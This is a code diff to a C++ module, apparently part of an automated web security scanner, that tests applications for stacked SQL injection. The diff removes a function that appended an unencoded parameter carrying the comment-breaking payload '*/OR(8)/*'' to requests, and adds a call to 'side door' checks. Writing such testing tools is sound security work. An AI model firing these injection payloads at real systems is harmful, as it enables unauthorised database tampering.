@@ -1,7 +1,7 @@
 // sql-stacked: ends the app's statement and starts one of its own, in every parameter there is.
 // Nothing of it need be seen in an answer (a log's INSERT shows none), so it fires and goes on;
-// what changed is read off the world. And one member more than anybody asked for, whose name and
-// value end a comment, in a URL that nobody encoded: what only writes down what came may paste it.
+// what changed is read off the world. And by the side doors: what only writes down what came may
+// paste it.
 #include <algorithm>
 #include <span>
 
@@ -9,6 +9,7 @@
 #include "core/attack/options.h"
 #include "core/attack/request_writer.h"
 #include "core/attack/session.h"
+#include "core/attack/side_doors.h"
 #include "core/attack/spelling.h"
 
 namespace parapet::attack {
@@ -37,7 +38,6 @@ class SqlStacked final : public Agent {
         std::string const signup = option_or(target, option::kSignup, "signup");
         std::string const login = option_or(target, option::kLogin, "login");
         for (Endpoint const* endpoint : endpoints_to_try(target)) {
-            add_a_member(target, *endpoint);
             if (endpoint->parameters.empty()) continue;
             if (endpoint->id == signup) {
                 fire_everywhere(target, *endpoint);
@@ -52,6 +52,7 @@ class SqlStacked final : public Agent {
                     fire(target, {endpoint, i}, ends_for({endpoint, i}), statements_.size() + 1);
             }
         }
+        try_side_doors(target);
         target.wait(std::chrono::seconds(1));  // some apps answer before their writes are done
     }
 
@@ -87,25 +88,6 @@ class SqlStacked final : public Agent {
                 use_what_was_stored(target, spot, end);
             }
         }
-    }
-
-    static void add_a_member(Target& target, Endpoint const& endpoint) {
-        sign_in_for(target, endpoint);
-        std::vector<std::string> values = samples(endpoint);
-        std::size_t const username = username_parameter(endpoint);
-        std::size_t const password = password_parameter(endpoint);
-        if (endpoint.id == option_or(target, option::kSignup, "signup") && username < values.size())
-            values[username] = random_word(target, 8);
-        if (password < values.size()) values[password] = target.surface().attacker.password;
-        http::Request request = write_request(endpoint, values);
-        std::string const member = random_word(target, 4) + "*/OR(8)/*'";
-        request.target += request.target.find('?') == std::string::npos ? '?' : '&';
-        request.target += member + "=" + member;
-        if (request.body.ends_with('}')) {
-            request.body.pop_back();
-            request.body += "," + json_string(member) + ":" + json_string(member) + "}";
-        }
-        target.send(request);
     }
 
     // Text that was stored safely may still be pasted later, mostly into a SELECT.
